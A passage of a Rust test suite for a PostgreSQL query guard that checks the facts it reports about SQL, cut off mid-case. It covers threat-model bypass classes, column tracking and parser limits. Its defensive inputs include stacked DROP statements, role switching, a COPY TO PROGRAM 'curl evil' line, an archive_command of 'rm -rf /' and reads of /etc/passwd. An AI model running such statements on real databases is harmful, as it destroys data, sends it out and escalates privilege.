//! Analysis: SQL text → facts. Each case is a SQL text and what must (or, with `!`, must
//! not) hold of its facts; see `support::holds` for the expectation language.

use proptest::prelude::*;
use sqlguard::analysis::{analyze, analyze_with, AnalysisError, AnalysisOptions};

use crate::support::{corpus_dir, holds};

fn check(cases: &[(&str, &[&str])]) {
    let mut failures = Vec::new();
    for (sql, expectations) in cases {
        match analyze(sql) {
            Ok(facts) => {
                for e in *expectations {
                    if !holds(&facts, e) {
                        failures.push(format!(
                            "{sql}\n  expected {e}\n  facts: {}",
                            serde_json::to_string(&facts).unwrap()
                        ));
                    }
                }
            }
            Err(err) => failures.push(format!("{sql}\n  analysis failed: {err}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// The cases of [`threat_model_bypass_classes`].
const BYPASS_CLASSES: &[(&str, &[&str])] = &[
    // 1. Stacked statements.
    ("COMMIT; DROP TABLE users", &["statements:2", "kind:transaction", "kind:ddl", "construct:transaction_control", "construct:ddl"]),
    ("ROLLBACK; DELETE FROM users", &["statements:2", "construct:data_modifying_statement", "write:public.users"]),
    ("END; SELECT 1", &["statements:2", "construct:transaction_control"]),
    ("SELECT 1; SELECT 2", &["statements:2", "read_only"]),
    // 2. Switching the transaction to read-write.
    ("SET TRANSACTION READ WRITE", &["construct:read_write_transaction", "construct:session_change", "setting:set:transaction_read_only"]),
    ("BEGIN READ WRITE", &["construct:read_write_transaction", "construct:transaction_control"]),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", &["construct:read_write_transaction"]),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", &["construct:read_write_transaction", "setting:set:default_transaction_read_only"]),
    ("SET default_transaction_read_only = off", &["construct:session_change", "setting:set:default_transaction_read_only"]),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", &["construct:side_effect_function", "risk:configuration", "setting:write:default_transaction_read_only"]),
    ("RESET ALL", &["kind:reset", "construct:session_change", "setting:reset:all"]),
    ("DISCARD ALL", &["kind:discard", "construct:session_change"]),
    // 3. Data-modifying CTEs, at any depth.
    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", &["kind:select", "construct:data_modifying_cte", "write:public.users", "cte:d", "nested:delete"]),
    ("SELECT * FROM (WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x) s", &["construct:data_modifying_cte", "write:public.t"]),
    ("SELECT (WITH i AS (INSERT INTO log VALUES (1) RETURNING 1) SELECT 1 FROM i)", &["construct:data_modifying_cte", "write:public.log"]),
    ("WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m", &["construct:data_modifying_cte", "write:public.t", "read:public.s"]),
    // 4. SELECT … INTO, also nested.
    ("SELECT * INTO newtable FROM users", &["construct:select_into", "create:public.newtable", "into:public.newtable", "read:public.users"]),
    ("SELECT 1 UNION SELECT 2 INTO t2", &["construct:select_into"]),
    ("CREATE TABLE t3 AS SELECT * FROM users", &["construct:ddl", "create:public.t3", "read:public.users"]),
    // 5. Row locks, also in subqueries.
    ("SELECT * FROM users FOR UPDATE", &["construct:row_lock", "lock:public.users", "lockclause:for_update"]),
    ("SELECT * FROM users u JOIN orders o ON o.uid = u.id FOR NO KEY UPDATE OF o", &["lockclause:for_no_key_update", "lock:public.orders", "!lock:public.users"]),
    ("SELECT * FROM (SELECT * FROM users FOR SHARE) s", &["construct:row_lock", "lockclause:for_share"]),
    ("SELECT id FROM users WHERE id IN (SELECT uid FROM orders FOR KEY SHARE)", &["lockclause:for_key_share", "lock:public.orders"]),
    // 6. EXPLAIN ANALYZE of a write (and of a read, which only reads).
    ("EXPLAIN ANALYZE DELETE FROM users", &["construct:explain_analyze_write", "explain_analyze", "write:public.users", "nested:delete"]),
    ("EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)", &["construct:explain_analyze_write"]),
    ("EXPLAIN (ANALYZE true) UPDATE t SET a = 1", &["construct:explain_analyze_write"]),
    ("EXPLAIN ANALYZE SELECT * FROM users", &["read_only", "explain_analyze", "read:public.users"]),
    ("EXPLAIN (ANALYZE false) DELETE FROM users", &["!explain_analyze", "read_only", "nested:delete"]),
    ("EXPLAIN DELETE FROM users", &["!explain_analyze", "nested:delete"]),
    // 7. Statements PostgreSQL allows in a READ ONLY transaction.
    ("SET search_path = evil, pg_catalog", &["construct:session_change", "setting:set:search_path"]),
    ("PREPARE p AS DELETE FROM users", &["kind:prepare", "construct:prepared_statement", "write:public.users"]),
    ("EXECUTE p(1)", &["kind:execute", "construct:prepared_statement"]),
    ("DECLARE c CURSOR FOR SELECT * FROM users", &["kind:cursor", "construct:cursor", "read:public.users"]),
    ("FETCH 10 FROM c", &["kind:cursor"]),
    ("LOAD 'plpgsql'", &["kind:load", "construct:load_library"]),
    ("VACUUM users", &["kind:maintenance", "construct:maintenance"]),
    ("ANALYZE users", &["kind:maintenance"]),
    ("CLUSTER users USING users_pkey", &["kind:maintenance"]),
    ("REINDEX TABLE users", &["kind:maintenance"]),
    ("CHECKPOINT", &["kind:maintenance"]),
    ("LISTEN ch", &["kind:listen", "construct:notification"]),
    ("NOTIFY ch, 'x'", &["kind:notify", "construct:notification"]),
    ("LOCK TABLE users IN ACCESS SHARE MODE", &["kind:lock", "construct:table_lock", "lock:public.users"]),
    ("COPY users TO STDOUT", &["kind:copy", "construct:copy", "read:public.users"]),
    ("COPY (SELECT * FROM users) TO PROGRAM 'curl evil'", &["construct:copy", "read:public.users"]),
    ("COPY users FROM '/etc/passwd'", &["construct:copy", "write:public.users"]),
    ("ALTER SYSTEM SET archive_command = 'rm -rf /'", &["construct:utility"]),
    ("DO $$ BEGIN DELETE FROM users; END $$", &["kind:do", "construct:procedural_code"]),
    ("CALL my_proc()", &["kind:call", "construct:procedural_code", "fn:my_proc"]),
    // 8. Side-effect and privileged functions, anywhere in a SELECT.
    ("SELECT nextval('s')", &["risk:sequences", "construct:side_effect_function", "builtin_fn:pg_catalog.nextval"]),
    ("SELECT setval('s', 1)", &["risk:sequences"]),
    ("SELECT pg_terminate_backend(1)", &["risk:backend_control"]),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", &["risk:backend_control", "read:pg_catalog.pg_stat_activity"]),
    ("SELECT pg_sleep(10)", &["risk:sleep", "read_only"]),
    ("SELECT pg_advisory_lock(1)", &["risk:advisory_locks"]),
    ("SELECT pg_notify('c', 'x')", &["risk:notify"]),
    ("SELECT pg_reload_conf()", &["risk:backend_control"]),
    ("SELECT pg_stat_reset()", &["risk:statistics_reset"]),
    ("SELECT pg_read_file('/etc/passwd')", &["risk:server_files"]),
    ("SELECT pg_read_binary_file('x')", &["risk:server_files"]),
    ("SELECT * FROM pg_ls_dir('.')", &["risk:server_files"]),
    ("SELECT pg_stat_file('x')", &["risk:server_files"]),
    ("SELECT lo_import('/etc/passwd')", &["risk:large_objects"]),
    ("SELECT lo_export(1, '/tmp/x')", &["risk:large_objects"]),
    ("SELECT lo_unlink(1)", &["risk:large_objects"]),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", &["risk:external_session"]),
    ("SELECT gin_clean_pending_list('i'::regclass)", &["risk:maintenance"]),
    ("SELECT pg_backup_start('x')", &["risk:replication_backup"]),
    ("SELECT cron.schedule('* * * * *', 'DELETE FROM t')", &["risk:scheduler", "fn:cron.schedule"]),
    // Functions in every position.
    ("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", &["risk:sleep"]),
    ("SELECT sum(a) OVER (PARTITION BY pg_sleep(1)) FROM t", &["risk:sleep"]),
    ("SELECT CASE WHEN true THEN nextval('s') END", &["risk:sequences"]),
    ("SELECT ARRAY[nextval('s')]", &["risk:sequences"]),
    ("VALUES (nextval('s'))", &["risk:sequences"]),
    ("SELECT * FROM t LIMIT (SELECT nextval('s'))", &["risk:sequences"]),
    ("SELECT * FROM t ORDER BY pg_sleep(1)", &["risk:sleep"]),
    ("SELECT a FROM t GROUP BY a HAVING pg_sleep(1) IS NULL", &["risk:sleep"]),
    ("SELECT * FROM t WINDOW w AS (ORDER BY nextval('s'))", &["risk:sequences"]),
    ("SELECT * FROM generate_series(1, nextval('s'))", &["risk:sequences", "fn:pg_catalog.generate_series"]),
    ("SELECT * FROM t TABLESAMPLE BERNOULLI (nextval('s'))", &["risk:sequences", "fn:pg_catalog.bernoulli"]),
    ("SELECT * FROM t, LATERAL (SELECT pg_sleep(1)) s", &["risk:sleep"]),
    ("SELECT xmlelement(name x, nextval('s'))", &["risk:sequences"]),
    ("SELECT json_build_object('a', nextval('s'))", &["risk:sequences"]),
    ("SELECT COALESCE(NULL, nextval('s'))", &["risk:sequences"]),
    ("SELECT 1 WHERE EXISTS (SELECT pg_sleep(1))", &["risk:sleep"]),
    // 9. Functions that run SQL given as text.
    ("SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", &["risk:dynamic_sql", "construct:side_effect_function"]),
    ("SELECT cursor_to_xml('c', 1, true, true, '')", &["risk:dynamic_sql"]),
    ("SELECT table_to_xml('users', true, true, '')", &["risk:dynamic_sql"]),
    ("SELECT * FROM ts_stat('SELECT v FROM t')", &["risk:dynamic_sql"]),
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", &["risk:dynamic_sql"]),
    // 10. Identity switches.
    ("SET ROLE postgres", &["construct:identity_switch", "setting:set:role"]),
    ("SET SESSION AUTHORIZATION postgres", &["construct:identity_switch", "setting:set:session_authorization"]),
    ("SELECT set_config('role', 'postgres', false)", &["setting:write:role", "risk:configuration"]),
    // 11. search_path: unqualified names resolve through the pinned path.
    ("SELECT * FROM pg_authid", &["read:pg_catalog.pg_authid"]),
    ("SELECT * FROM users", &["read:public.users"]),
    ("SELECT * FROM information_schema.tables", &["read:information_schema.tables"]),
    ("SELECT lower('A')", &["builtin_fn:pg_catalog.lower"]),
    // 12. Name resolution: CTE scope, qualification, case.
    ("WITH users AS (SELECT * FROM users) SELECT * FROM users", &["read:public.users", "cte:users"]),
    ("WITH x AS (SELECT 1) SELECT * FROM public.x", &["read:public.x", "!cte:x"]),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", &["read:public.b"]),
    ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", &["cte:r", "!read:public.r"]),
    ("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) q, s", &["read:public.s", "cte:s"]),
    ("SELECT * FROM \"Users\"", &["read:public.Users", "!read:public.users"]),
    ("SELECT * FROM USERS", &["read:public.users"]),
    ("SELECT * FROM \"public\".\"secret\"", &["read:public.secret"]),
    ("WITH t AS (SELECT 1) DELETE FROM t", &["write:public.t"]),
    // 13. Unicode escapes are decoded by the parser.
    ("SELECT U&\"pg_read_fil\\0065\"('x')", &["risk:server_files", "fn:pg_catalog.pg_read_file"]),
    ("SELECT U&\"pg_read_fil!0065\" UESCAPE '!'('x')", &["risk:server_files"]),
    ("SELECT * FROM U&\"pg_auth\\0069d\"", &["read:pg_catalog.pg_authid"]),
    // 14. Lexer differentials: parsed as the pinned server lexes (standard_conforming_strings
    // on, so a backslash does not escape a quote in a plain string).
    ("SELECT 'x\\'; DROP TABLE t; --'", &["statements:2", "kind:ddl"]),
    ("SELECT E'x\\'; DROP TABLE t; --'", &["statements:1", "read_only"]),
    // 15. Long ordinary expressions are analyzed correctly (see also `parser_limits`).
    ("SELECT pg_sleep(1) + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1", &["risk:sleep"]),
];

/// Every bypass class of `../shared/docs/threat-model.md`, by number.
#[test]
fn threat_model_bypass_classes() {
    check(BYPASS_CLASSES);
}

/// The cases of [`relations_everywhere`].
const RELATIONS_EVERYWHERE: &[(&str, &[&str])] = &[
    (
        "TABLE secret",
        &["read:public.secret", "star:public.secret"],
    ),
    (
        "SELECT * FROM a JOIN b USING (id) LEFT JOIN c ON true",
        &["read:public.a", "read:public.b", "read:public.c"],
    ),
    (
        "SELECT (SELECT x FROM a) FROM b",
        &["read:public.a", "read:public.b"],
    ),
    ("SELECT 1 WHERE 1 IN (SELECT x FROM a)", &["read:public.a"]),
    (
        "SELECT * FROM t LIMIT (SELECT count(*) FROM secret)",
        &["read:public.secret"],
    ),
    (
        "SELECT * FROM t OFFSET (SELECT 1 FROM secret)",
        &["read:public.secret"],
    ),
    ("VALUES ((SELECT x FROM secret))", &["read:public.secret"]),
    (
        "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
        &["read:public.t"],
    ),
    (
        "SELECT * FROM t, LATERAL (SELECT * FROM secret WHERE secret.id = t.id) s",
        &["read:public.secret"],
    ),
    (
        "SELECT rank() OVER (ORDER BY (SELECT 1 FROM secret)) FROM t",
        &["read:public.secret"],
    ),
    (
        "SELECT a FROM t GROUP BY a HAVING a > (SELECT min(x) FROM secret)",
        &["read:public.secret"],
    ),
    (
        "SELECT a FROM t GROUP BY GROUPING SETS ((a), ((SELECT 1 FROM secret)))",
        &["read:public.secret"],
    ),
    (
        "SELECT * FROM t ORDER BY (SELECT 1 FROM secret)",
        &["read:public.secret"],
    ),
    (
        "SELECT 1 UNION SELECT x FROM secret",
        &["read:public.secret"],
    ),
    (
        "SELECT 1 EXCEPT (SELECT x FROM secret INTERSECT SELECT y FROM other)",
        &["read:public.secret", "read:public.other"],
    ),
    (
        "SELECT ARRAY(SELECT x FROM secret)",
        &["read:public.secret"],
    ),
    (
        "SELECT * FROM ROWS FROM (generate_series(1, 2)) g",
        &["fn:pg_catalog.generate_series"],
    ),
    (
        "SELECT * FROM XMLTABLE('/r' PASSING (SELECT x FROM secret) COLUMNS a int)",
        &["read:public.secret"],
    ),
    (
        "SELECT * FROM JSON_TABLE((SELECT j FROM secret), '$' COLUMNS (a int))",
        &["read:public.secret"],
    ),
    (
        "UPDATE t SET a = s.a FROM secret s",
        &["write:public.t", "read:public.secret"],
    ),
    (
        "DELETE FROM t USING secret s WHERE s.id = t.id",
        &["write:public.t", "read:public.secret"],
    ),
    (
        "INSERT INTO t SELECT * FROM secret ON CONFLICT (id) DO UPDATE SET a = 1",
        &["write:public.t", "read:public.secret"],
    ),
    (
        "SELECT * FROM app.orders o WHERE o.total > 10",
        &["read:app.orders", "col:app.orders.total"],
    ),
];

/// Relations and columns in every position of a query.
#[test]
fn relations_everywhere() {
    check(RELATIONS_EVERYWHERE);
}

/// Columns read, for `columns.deny`: named, qualified, `*`, `t.*` and whole-row references.
#[test]
fn columns_read() {
    check(&[
        ("SELECT ssn FROM users", &["col:public.users.ssn"]),
        ("SELECT u.ssn FROM users u", &["col:public.users.ssn"]),
        (
            "SELECT public.users.ssn FROM public.users",
            &["col:public.users.ssn"],
        ),
        ("SELECT * FROM users", &["star:public.users"]),
        (
            "SELECT u.* FROM users u JOIN orders o ON true",
            &["star:public.users", "!star:public.orders"],
        ),
        ("SELECT u FROM users u", &["star:public.users"]),
        (
            "SELECT row_to_json(users) FROM users",
            &["star:public.users"],
        ),
        ("SELECT (u).ssn FROM users u", &["star:public.users"]),
        ("SELECT count(*) FROM users", &["!star:public.users"]),
        (
            "SELECT id FROM orders WHERE uid IN (SELECT id FROM users WHERE ssn = '1')",
            &["col:public.users.ssn"],
        ),
        (
            "SELECT * FROM (SELECT ssn FROM users) s",
            &["col:public.users.ssn"],
        ),
    ]);
}

/// Columns a query reads without naming them (threat model, "implicit references"): joins
/// compare them, column alias lists rename them.
#[test]
fn implicit_column_references() {
    check(&[
        // JOIN … USING compares the column of both sides, also under a join alias.
        (
            "SELECT id FROM vault JOIN (SELECT 'guess' AS secret) s USING (secret)",
            &["via:join_using:public.vault", "col:public.vault.secret"],
        ),
        (
            "SELECT j.id FROM vault JOIN other USING (secret) AS j",
            &["col:public.vault.secret", "col:public.other.secret"],
        ),
        (
            "SELECT id FROM (vault v JOIN other o USING (id)) AS j WHERE j.secret > ''",
            &["col:public.vault.secret", "col:public.other.secret"],
        ),
        (
            "SELECT id FROM vault JOIN other USING (id)",
            &["col:public.vault.id", "!col:public.vault.secret"],
        ),
        // NATURAL JOIN compares whatever columns the sides share: all of them may be.
        (
            "SELECT id FROM vault NATURAL JOIN (SELECT 'guess' AS secret) s",
            &["via:natural_join:public.vault", "star:public.vault"],
        ),
        (
            "SELECT 1 FROM a NATURAL LEFT JOIN (b JOIN c ON true)",
            &["star:public.a", "star:public.b", "star:public.c"],
        ),
        // Column alias lists rename a table's columns (`v(a, b)`: b is vault's second column).
        (
            "SELECT b FROM vault v(a, b)",
            &["via:column_aliases:public.vault", "star:public.vault"],
        ),
        (
            "SELECT x FROM (vault JOIN other USING (id)) AS j(x, y)",
            &[
                "via:column_aliases:public.vault",
                "via:column_aliases:public.other",
            ],
        ),
        // Named and whole-row references keep their own kind.
        ("SELECT secret FROM vault", &["via:named:public.vault"]),
        ("SELECT v FROM vault v", &["via:whole_row:public.vault"]),
        ("SELECT * FROM vault", &["via:star:public.vault"]),
    ]);
}

/// Catalog relations whose rows a `WHERE` pins to constants (for the side-channel rules), and
/// the cases that must not count as pinned.
#[test]
fn catalog_pins() {
    check(&[
        (
            "SELECT setting FROM pg_settings WHERE name = 'work_mem'",
            &["pin:pg_catalog.pg_settings.name=work_mem"],
        ),
        (
            "SELECT s.setting FROM pg_settings s WHERE 'work_mem' = s.name",
            &["pin:pg_catalog.pg_settings.name=work_mem"],
        ),
        (
            "SELECT histogram_bounds FROM pg_stats WHERE tablename = 'vault' AND attname IN ('id', 'x')",
            &["pin:pg_catalog.pg_stats.tablename=vault", "pin:pg_catalog.pg_stats.attname=id|x"],
        ),
        (
            "SELECT setting FROM pg_settings WHERE name = 'work_mem'::text AND (pg_settings.name = 'work_mem')",
            &["pin:pg_catalog.pg_settings.name=work_mem"],
        ),
        // Another condition on its columns: PostgreSQL may evaluate it on every row first,
        // and an error message would show a value of another row.
        (
            "SELECT setting FROM pg_settings WHERE name = 'work_mem' AND setting::int > 0",
            &["unpinned:pg_catalog.pg_settings"],
        ),
        (
            "SELECT s.setting FROM pg_settings s WHERE s.name = 'work_mem' AND EXISTS (SELECT 1 WHERE s.setting = 'x')",
            &["unpinned:pg_catalog.pg_settings"],
        ),
        // Not an equality with constants, not at the top level of WHERE, or not a plain FROM item.
        ("SELECT setting FROM pg_settings WHERE name = 'work_mem' OR true", &["unpinned:pg_catalog.pg_settings"]),
        ("SELECT setting FROM pg_settings WHERE name LIKE 'work%'", &["unpinned:pg_catalog.pg_settings"]),
        ("SELECT setting FROM pg_settings WHERE name = current_user", &["unpinned:pg_catalog.pg_settings"]),
        (
            "SELECT setting FROM pg_settings s(setting, name) WHERE name = 'work_mem'",
            &["unpinned:pg_catalog.pg_settings", "star:pg_catalog.pg_settings"],
        ),
        (
            "SELECT s.setting FROM pg_settings s JOIN pg_roles r ON true WHERE s.name = 'work_mem'",
            &["unpinned:pg_catalog.pg_settings"],
        ),
        (
            "SELECT setting FROM (SELECT * FROM pg_settings) s WHERE name = 'work_mem'",
            &["unpinned:pg_catalog.pg_settings"],
        ),
        // Only catalog relations carry pins (the facts carry no other constants).
        ("SELECT * FROM users WHERE name = 'x'", &["unpinned:public.users"]),
        // A pin on another FROM item's column does not pin this one.
        (
            "SELECT s.setting FROM pg_settings s, users u WHERE u.name = 'work_mem'",
            &["unpinned:pg_catalog.pg_settings"],
        ),
    ]);
}

/// Text that looks dangerous to a lexer but is not: the parser decides.
#[test]
fn false_positive_traps_stay_read_only() {
    check(&[
        (
            "SELECT 'DROP TABLE users; DELETE FROM x' AS s",
            &["read_only", "statements:1", "!write:public.users"],
        ),
        (
            "SELECT $$ COMMIT; DROP TABLE t $$",
            &["read_only", "statements:1"],
        ),
        ("SELECT $tag$ ; UPDATE t SET a = 1 $tag$", &["read_only"]),
        (
            "SELECT 1 -- ; DROP TABLE users",
            &["read_only", "statements:1"],
        ),
        (
            "SELECT /* DELETE FROM t; */ 1",
            &["read_only", "statements:1"],
        ),
        (
            "SELECT \"update\", \"delete\" FROM \"insert\"",
            &["read_only", "read:public.insert"],
        ),
        (
            "SELECT * FROM t WHERE note = 'for update'",
            &["read_only", "!construct:row_lock"],
        ),
        (
            "SELECT E'\\' ; DROP TABLE t; --'",
            &["read_only", "statements:1"],
        ),
        (
            "SELECT 'a''; DELETE FROM t; --'",
            &["read_only", "statements:1"],
        ),
        (
            "SELECT created_at, updated_at, deleted FROM logs",
            &["read_only"],
        ),
        (
            "SELECT nextval_count FROM stats",
            &["read_only", "!risk:sequences"],
        ),
        (
            "WITH updates AS (SELECT * FROM t) SELECT * FROM updates",
            &["read_only"],
        ),
        (
            "EXPLAIN SELECT * FROM users",
            &["read_only", "kind:explain"],
        ),
        (
            "SHOW search_path",
            &["read_only", "kind:show", "setting:show:search_path"],
        ),
        (
            "SELECT current_setting('search_path')",
            &["read_only", "setting:read:search_path"],
        ),
    ]);
}

#[test]
fn unknown_operators_and_parameters_are_reported() {
    check(&[
        ("SELECT 1 OPERATOR(public.+) 2", &["op:+"]),
        ("SELECT a <<~>> b FROM t", &["op:<<~>>"]),
        (
            "SELECT 1 + 2, 'a' || 'b', a ~~ 'x' FROM t",
            &["!op:+", "!op:||"],
        ),
        ("SELECT * FROM t WHERE id = $1", &["param:1"]),
    ]);
}

#[test]
fn statements_and_kinds() {
    let facts = analyze("SELECT 1; INSERT INTO t VALUES (1);\n  DELETE FROM t").unwrap();
    let kinds: Vec<String> = facts
        .statements
        .iter()
        .map(|s| format!("{:?}", s.kind))
        .collect();
    assert_eq!(kinds, ["Select", "Insert", "Delete"]);
    assert_eq!(
        &"SELECT 1; INSERT INTO t VALUES (1);\n  DELETE FROM t"[facts.statements[1].location..]
            [..6],
        "INSERT"
    );
    assert_eq!(facts.statements[0].node, "SelectStmt");
    let empty = analyze("-- nothing but a comment").unwrap();
    assert_eq!(empty.statement_count, 0);
}

#[test]
fn search_path_is_configurable() {
    let opts = AnalysisOptions::new(vec!["app".into(), "pg_catalog".into()]);
    let facts = analyze_with("SELECT * FROM orders, pg_class; SELECT lower('x')", &opts).unwrap();
    let rels = &facts.statements[0].relations;
    assert_eq!(rels[0].qualified_name, "app.orders");
    // A user schema before pg_catalog could capture a built-in name: both are candidates.
    assert_eq!(rels[1].candidates, ["app", "pg_catalog"]);
    let f = &facts.statements[1].functions[0];
    assert!(!f.builtin, "lower() could resolve to app.lower: {f:?}");
}

/// Class 15: deep but ordinary SQL is analyzed; pathological nesting is a clear error.
#[test]
fn parser_limits() {
    let concat = format!(
        "SELECT {} FROM t",
        (0..400)
            .map(|i| format!("c{i}"))
            .collect::<Vec<_>>()
            .join(" || ")
    );
    let facts = analyze(&concat).unwrap();
    assert_eq!(facts.statements[0].columns.len(), 400);

    let plus = format!("SELECT {} + pg_sleep(1)", vec!["1"; 300].join(" + "));
    assert!(holds(&analyze(&plus).unwrap(), "risk:sleep"));

    let nested = format!(
        "SELECT * FROM {}secret{}",
        "(SELECT * FROM ".repeat(40),
        ") s".repeat(40)
    );
    assert!(holds(&analyze(&nested).unwrap(), "read:public.secret"));

    let parens = format!("SELECT {}nextval('s'){}", "(".repeat(300), ")".repeat(300));
    assert!(holds(&analyze(&parens).unwrap(), "risk:sequences"));

    let deep = format!("SELECT {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    let err = analyze(&deep).unwrap_err();
    assert!(matches!(err, AnalysisError::ParserLimit { .. }), "{err}");
    assert!(err.to_string().contains("flatten"), "{err}");

    let huge = "SELECT 1 + ".repeat(200_000) + "1";
    let err = analyze(&huge).unwrap_err();
    assert!(
        matches!(
            err,
            AnalysisError::TooLarge { .. } | AnalysisError::ParserLimit { .. }
        ),
        "{err}"
    );
}

#[test]
fn errors_carry_postgres_message_and_position() {
    let err = analyze("SELECT * FORM users").unwrap_err();
    match &err {
        AnalysisError::Syntax { message, position } => {
            assert!(
                message.contains("syntax error at or near \"FORM\""),
                "{message}"
            );
            assert_eq!(*position, Some(10));
        }
        other => panic!("unexpected {other:?}"),
    }
    assert!(matches!(
        analyze("SELECT 1\0; DROP TABLE t"),
        Err(AnalysisError::NulByte { position: 8 })
    ));
}

/// Every statement of PostgreSQL's own regression SQL and of TPC-H is analyzed or refused
/// with a clear error: no panic, no unclassified node in a statement that parsed.
#[test]
fn corpus_statements_never_panic() {
    let Some(dir) = corpus_dir() else { return };
    let (mut ok, mut refused, mut unclassified) = (0usize, 0usize, Vec::new());
    let mut files: Vec<_> = std::fs::read_dir(dir.join("pg_regress"))
        .unwrap()
        .chain(std::fs::read_dir(dir.join("tpch")).unwrap())
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "sql"))
        .collect();
    files.sort();
    assert!(
        files.len() > 200,
        "corpus incomplete: {} files",
        files.len()
    );
    for path in &files {
        let text = std::fs::read_to_string(path).unwrap_or_else(|_| {
            String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned()
        });
        // psql meta-commands are not SQL; the scanner splits the rest for this test only.
        let sql: String = text
            .lines()
            .filter(|l| !l.trim_start().starts_with('\\'))
            .collect::<Vec<_>>()
            .join("\n");
        let pieces = pg_query::split_with_scanner(&sql).unwrap_or_default();
        for piece in pieces {
            match analyze(piece) {
                Ok(facts) => {
                    ok += 1;
                    for s in &facts.statements {
                        if !s.unclassified.is_empty() {
                            unclassified.push(format!(
                                "{}: {:?}: {piece}",
                                path.display(),
                                s.unclassified
                            ));
                        }
                    }
                }
                Err(e) => {
                    refused += 1;
                    assert!(
                        !matches!(e, AnalysisError::Internal(_)),
                        "{}: {e}: {piece}",
                        path.display()
                    );
                    assert!(!e.to_string().is_empty());
                }
            }
        }
    }
    eprintln!(
        "corpus: {} files, {ok} statements analyzed, {refused} refused with a parse error",
        files.len()
    );
    assert!(ok > 10_000, "only {ok} statements analyzed");
    assert!(
        unclassified.is_empty(),
        "{} statements with unclassified nodes:\n{}",
        unclassified.len(),
        unclassified[..unclassified.len().min(20)].join("\n")
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, .. ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let text = String::from_utf8_lossy(&bytes);
        let a = analyze(&text);
        let b = analyze(&text);
        prop_assert_eq!(a, b);
    }

    #[test]
    fn token_soup_never_panics_and_is_deterministic(tokens in proptest::collection::vec(proptest::sample::select(vec![
        "SELECT", "FROM", "WHERE", "WITH", "AS", "(", ")", ",", ";", "*", "users", "t", "DELETE",
        "INSERT", "INTO", "VALUES", "UPDATE", "SET", "FOR", "UPDATE", "JOIN", "ON", "1", "'x'",
        "$$a$$", "pg_sleep(1)", "nextval('s')", "UNION", "EXPLAIN", "ANALYZE", "RETURNING",
        "LATERAL", "TABLE", "BEGIN", "COMMIT", "=", "+", "||", "\"Q\"", "public.", "x.y", "LIMIT",
        "ORDER BY", "GROUP BY", "CASE", "WHEN", "THEN", "END", "ARRAY[", "]", "::int", "NOT", "IN",
    ]), 0..40)) {
        let text = tokens.join(" ");
        let a = analyze(&text);
        let b = analyze(&text);
        prop_assert_eq!(a, b);
    }
}

/// The fuzzing oracle holds on the whole corpus: no invented names.
#[test]
fn reported_names_are_in_the_text() {
    let Some(dir) = corpus_dir() else { return };
    let mut checked = 0;
    for entry in std::fs::read_dir(dir.join("pg_regress")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap_or_default();
        let sql: String = text
            .lines()
            .filter(|l| !l.trim_start().starts_with('\\'))
            .collect::<Vec<_>>()
            .join("\n");
        for piece in pg_query::split_with_scanner(&sql).unwrap_or_default() {
            if let Ok(facts) = analyze(piece) {
                sqlguard::analysis::check_names_in_text(piece, &facts).unwrap();
                checked += 1;
            }
        }
    }
    assert!(checked > 10_000);
}

/// Where each column reference sits, and the columns of subqueries and CTEs traced to the
/// columns they pass through (what masked columns are judged by).
#[test]
fn column_places() {
    check(&[
        (
            "SELECT email AS e, id FROM users WHERE id > 1",
            &[
                "use:projection:public.users.email",
                "use:where:public.users.id",
                "!use:where:public.users.email",
            ],
        ),
        (
            "SELECT s.e FROM (SELECT email AS e FROM users) s WHERE s.e LIKE 'a%'",
            &[
                "use:projection:public.users.email",
                "use:where:public.users.email",
            ],
        ),
        (
            "WITH c AS (SELECT * FROM users) SELECT id FROM c ORDER BY email",
            &[
                "use:order_by:public.users.email",
                "use:projection:public.users.id",
            ],
        ),
        (
            "SELECT id, email FROM users ORDER BY 2",
            &[
                "use:order_by:public.users.email",
                "!use:projection:public.users.email",
            ],
        ),
        (
            "SELECT email AS e FROM users GROUP BY e",
            &["!use:projection:public.users.email"],
        ),
        (
            "SELECT email FROM users UNION ALL SELECT 'x'",
            &["use:set_operation:public.users.email"],
        ),
        (
            "SELECT DISTINCT email FROM users",
            &["use:distinct:public.users.email"],
        ),
        (
            "SELECT lower(email), count(*) OVER (PARTITION BY name) FROM users",
            &[
                "use:expression:public.users.email",
                "use:window:public.users.name",
            ],
        ),
        (
            "SELECT id FROM users WHERE id IN (SELECT id FROM users WHERE email = 'x')",
            &[
                "use:subquery:public.users.id",
                "use:where:public.users.email",
            ],
        ),
        (
            "SELECT a.id FROM (SELECT id, email FROM users) a JOIN orders USING (email)",
            &["via:join_using:public.users"],
        ),
        (
            "SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id",
